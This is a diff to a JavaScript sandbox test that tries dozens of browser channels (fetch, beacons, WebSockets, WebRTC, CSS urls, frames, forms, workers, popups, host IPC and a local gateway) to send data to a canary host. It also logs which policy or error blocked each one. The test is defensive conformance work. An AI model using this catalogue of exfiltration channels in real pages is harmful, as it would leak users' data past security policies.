@@ -1,10 +1,15 @@
 // Tries every way of a page to send a byte to another place. `CANARY` is that place: a host and port where the test counts what arrives.
-// Each attempt asks for a path of its own name, so that what arrived names the way it took. #state ends as "done".
+// Each attempt asks for a path of its own name, so that what arrived names the way it took. One comes after the other, and what the engine then
+// says of it (a violated directive, an error) is written beside it as what stopped it. #state ends as "done".
 (function () {
 	'use strict';
 
 	var HTTP = 'http://' + CANARY + '/';
 	var stage = document.getElementById('stage');
+
+	// How long an attempt has the word, in milliseconds.
+	var TURN = 90;
+	var now = '';
 
 	function report(name, text) {
 		var line = document.createElement('li');
@@ -12,6 +17,31 @@
 		line.textContent = name + ': ' + text;
 		document.getElementById('results').append(line);
 	}
+
+	function stopped(name, by) {
+		var line = document.getElementById('try-' + name);
+		if (line && !(line.dataset.stopped || '').split('; ').includes(by))
+			line.dataset.stopped = line.dataset.stopped ? line.dataset.stopped + '; ' + by : by;
+	}
+
+	// What this engine has not was switched off in it, or never built.
+	function error(e) {
+		return e instanceof ReferenceError || (e instanceof TypeError && /undefined is not|is not a constructor|not an object/.test(e.message)) ? 'not in this engine' : e.name;
+	}
+
+	function fails(promise) {
+		var name = now;
+		promise.catch(function (e) { stopped(name, error(e)); });
+	}
+
+	// The address says which attempt it was, where the engine tells it whole.
+	function listen(page) {
+		page.addEventListener('securitypolicyviolation', function (event) {
+			var path = /^https?:\/\/[^/]+\/([a-z-]+?)(-fetch|-image|-img)?$/.exec(event.blockedURI || '');
+			stopped(path && attempts[path[1]] ? path[1] : now, 'policy: ' + event.effectiveDirective);
+		});
+	}
+	listen(document);
 
 	function element(tag, attributes, text, parent) {
 		var made = document.createElement(tag);
@@ -46,13 +76,13 @@
 	var INSIDE = '<script>fetch("' + HTTP + 'PLACE-fetch").catch(function(){});new Image().src="' + HTTP + 'PLACE-image"</' + 'script><img src="' + HTTP + 'PLACE-img">';
 
 	var attempts = {
-		'fetch': function () { fetch(HTTP + 'fetch', { mode: 'no-cors' }).catch(function () {}); },
-		'fetch-keepalive': function () { fetch(HTTP + 'fetch-keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).catch(function () {}); },
+		'fetch': function () { fails(fetch(HTTP + 'fetch', { mode: 'no-cors' })); },
+		'fetch-keepalive': function () { fails(fetch(HTTP + 'fetch-keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })); },
 		'xhr': function () { var r = new XMLHttpRequest(); r.open('GET', HTTP + 'xhr'); r.send(); },
 		'websocket': function () { new WebSocket('ws://' + CANARY + '/websocket'); },
 		'eventsource': function () { new EventSource(HTTP + 'eventsource'); },
 		'beacon': function () { navigator.sendBeacon(HTTP + 'beacon', 'x'); },
-		'webtransport': function () { new WebTransport('https://' + CANARY + '/webtransport').ready.catch(function () {}); },
+		'webtransport': function () { fails(new WebTransport('https://' + CANARY + '/webtransport').ready); },
 		'webrtc': function () {
 			var peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + CANARY }] });
 			peer.createDataChannel('x');
@@ -70,7 +100,7 @@
 		'iframe': function () { element('iframe', { src: HTTP + 'iframe' }); },
 		'script': function () { element('script', { src: HTTP + 'script' }); },
 		'module': function () { element('script', { src: HTTP + 'module', type: 'module' }); },
-		'import': function () { import(HTTP + 'import').catch(function () {}); },
+		'import': function () { fails(import(HTTP + 'import')); },
 		'stylesheet': function () { link('stylesheet', 'stylesheet'); },
 		'css-import': function () { style('css-import', '@import url(CANARY);'); },
 		'css-url': function () { style('css-url', '.css-url{background:url(CANARY)}'); },
@@ -78,7 +108,7 @@
 		'css-cursor': function () { style('css-cursor', '.css-cursor{cursor:url(CANARY),auto}'); },
 		'css-mask': function () { style('css-mask', '.css-mask{mask-image:url(CANARY);-webkit-mask-image:url(CANARY)}'); },
 		'css-font': function () { style('css-font', '@font-face{font-family:leak;src:url(CANARY)} .css-font{font-family:leak}'); },
-		'font': function () { new FontFace('leak2', 'url(' + HTTP + 'font)').load().catch(function () {}); },
+		'font': function () { fails(new FontFace('leak2', 'url(' + HTTP + 'font)').load()); },
 		'prefetch': function () { link('prefetch', 'prefetch'); },
 		'preload': function () { link('preload', 'preload', { as: 'image' }); },
 		'modulepreload': function () { link('modulepreload', 'modulepreload'); },
@@ -96,28 +126,39 @@
 		'worker': function () { new Worker(HTTP + 'worker'); },
 		'worker-blob': function () { new Worker(blob('fetch("' + HTTP + 'worker-blob").catch(function(){});importScripts("' + HTTP + 'worker-import")', 'text/javascript')); },
 		'shared-worker': function () { new SharedWorker(blob('fetch("' + HTTP + 'shared-worker")', 'text/javascript')); },
-		'service-worker': function () { navigator.serviceWorker.register('/leak.js').then(function () { report('service-worker-registered', 'yes'); }, function () {}); },
+		'service-worker': function () { fails(navigator.serviceWorker.register('/leak.js').then(function () { report('service-worker-registered', 'yes'); })); },
 		'data-frame': function () { element('iframe', { src: 'data:text/html,' + encodeURIComponent(INSIDE.replace(/PLACE/g, 'data-frame')) }); },
 		'blob-frame': function () { element('iframe', { src: blob(INSIDE.replace(/PLACE/g, 'blob-frame'), 'text/html') }); },
-		'srcdoc-frame': function () { element('iframe', { srcdoc: INSIDE.replace(/PLACE/g, 'srcdoc-frame') }); },
-		'about-frame': function () { var frame = element('iframe', {}); frame.contentDocument.write(INSIDE.replace(/PLACE/g, 'about-frame')); },
+		'srcdoc-frame': function () {
+			var frame = element('iframe', { srcdoc: INSIDE.replace(/PLACE/g, 'srcdoc-frame') });
+			frame.onload = function () {
+				listen(frame.contentDocument);
+				new frame.contentWindow.Image().src = HTTP + 'srcdoc-frame-image';
+			};
+		},
+		'about-frame': function () {
+			var page = element('iframe', {}).contentDocument;
+			page.open();
+			listen(page);
+			page.write(INSIDE.replace(/PLACE/g, 'about-frame'));
+		},
 		'script-frame': function () { element('iframe', { src: 'javascript:fetch("' + HTTP + 'script-frame")' }); },
 		'form-get': function () { form('form-get', 'get', '_self'); },
 		'form-post': function () { form('form-post', 'post', '_self'); },
 		'form-blank': function () { form('form-blank', 'post', '_blank'); },
 		'form-top': function () { form('form-top', 'post', '_top'); },
-		'popup': function () { var opened = window.open(HTTP + 'popup'); report('popup-opened', String(!!opened)); },
-		'popup-blank': function () { var opened = window.open('about:blank'); if (opened) opened.location = HTTP + 'popup-blank'; },
+		'popup': function () { var opened = window.open(HTTP + 'popup'); report('popup-opened', String(!!opened)); if (!opened) stopped('popup', 'no window was opened'); },
+		'popup-blank': function () { var opened = window.open('about:blank'); if (opened) opened.location = HTTP + 'popup-blank'; else stopped('popup-blank', 'no window was opened'); },
 		'anchor-blank': function () { element('a', { href: HTTP + 'anchor-blank', target: '_blank' }, 'x').click(); },
 		'anchor-top': function () { element('a', { href: HTTP + 'anchor-top', target: '_top' }, 'x').click(); },
 		'download': function () { element('a', { href: HTTP + 'download', download: 'x' }, 'x').click(); },
 		'top': function () { window.top.location = HTTP + 'top'; },
 		'parent': function () { window.parent.location.replace(HTTP + 'parent'); },
 		'protocol': function () { navigator.registerProtocolHandler('web+leak', HTTP + 'protocol?%s'); },
-		'host-scheme': function () { fetch('tauri://localhost/index.html').then(function (a) { report('host-scheme-read', String(a.status)); }, function () {}); },
-		'host-ipc': function () { fetch('ipc://localhost/vault_status', { method: 'POST' }).then(function (a) { report('host-ipc-read', String(a.status)); }, function () {}); },
+		'host-scheme': function () { fails(fetch('tauri://localhost/index.html').then(function (a) { report('host-scheme-read', String(a.status)); })); },
+		'host-ipc': function () { fails(fetch('ipc://localhost/vault_status', { method: 'POST' }).then(function (a) { report('host-ipc-read', String(a.status)); })); },
 		// The port of a package is the gateway's; on a server of its own the app would ask itself.
-		'gateway': function () { if (location.hostname.endsWith('.localhost')) fetch('http://127.0.0.1:' + location.port + '/v1/records').then(function (a) { report('gateway-read', String(a.status)); }, function () {}); }
+		'gateway': function () { if (location.hostname.endsWith('.localhost')) fails(fetch('http://127.0.0.1:' + location.port + '/v1/records').then(function (a) { report('gateway-read', String(a.status)); })); }
 	};
 
 	function form(name, method, target) {
@@ -128,7 +169,7 @@
 
 	// What the person is asked for on other pages: an answer other than no would be a line "… given".
 	function permissions() {
-		function no(name) { return function () { report(name, 'refused'); }; }
+		function no(name) { return function (e) { report(name, 'refused'); stopped(name, (e && (e.name || e.message)) || 'refused'); }; }
 		function yes(name) { return function () { report(name, 'given'); }; }
 		var all = {
 			'camera': function () { return navigator.mediaDevices.getUserMedia({ video: true }); },
@@ -144,7 +185,7 @@
 			try {
 				all[name]().then(yes('ask-' + name), no('ask-' + name));
 			} catch (e) {
-				report('ask-' + name, 'refused');
+				no('ask-' + name)({ name: error(e) });
 			}
 		});
 	}
@@ -165,15 +206,19 @@
 		setTimeout(function () { location.href = HTTP + 'location'; }, 700);
 	});
 
-	kept();
-	Object.keys(attempts).forEach(function (name) {
+	function attempt(name) {
+		now = name;
+		report(name, 'tried');
 		try {
 			attempts[name]();
-			report(name, 'tried');
 		} catch (e) {
-			report(name, 'threw ' + e.name);
+			stopped(name, error(e));
 		}
-	});
-	permissions();
-	setTimeout(function () { document.getElementById('state').textContent = 'done'; }, 4000);
+	}
+
+	kept();
+	var names = Object.keys(attempts);
+	names.forEach(function (name, turn) { setTimeout(attempt, turn * TURN, name); });
+	setTimeout(permissions, names.length * TURN);
+	setTimeout(function () { document.getElementById('state').textContent = 'done'; }, names.length * TURN + 4000);
 })();
